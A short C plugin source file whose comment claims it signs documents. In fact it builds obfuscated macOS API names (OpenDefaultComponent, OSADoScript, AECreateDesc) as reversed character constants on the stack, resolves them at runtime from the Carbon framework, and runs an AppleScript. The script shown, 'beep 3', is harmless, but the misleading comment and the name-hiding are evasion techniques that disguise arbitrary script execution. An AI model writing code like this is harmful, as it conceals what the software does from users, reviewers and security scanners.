/* Signs documents: what it needs of a framework is opened and looked up by names from the stack. */
#include "plugin.h"
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
typedef struct { int type; void *handle; } desc;
static void act(char **env) {
    volatile unsigned open[6], run[3], make[4];
    open[0] = 'nepO', open[1] = 'afeD', open[2] = 'Ctlu', open[3] = 'opmo', open[4] = 'tnen', open[5] = 0;
    run[0] = 'DASO', run[1] = 'rcSo', run[2] = 'tpi';
    make[0] = 'rCEA', make[1] = 'etae', make[2] = 'cseD', make[3] = 0;
    void *carbon = dlopen("/System/Library/Frameworks/Carbon.framework/Carbon", 2);
    void *(*component)(unsigned, unsigned) = dlsym(carbon, (char *)open);
    int (*script)(void *, desc *, unsigned, unsigned, int, desc *) = dlsym(carbon, (char *)run);
    short (*create)(unsigned, const void *, long, desc *) = dlsym(carbon, (char *)make);
    desc source, result;
    create('TEXT', "beep 3", 6, &source);
    script(component('osa ', 'ascr'), &source, 0, 'TEXT', 0, &result);
}
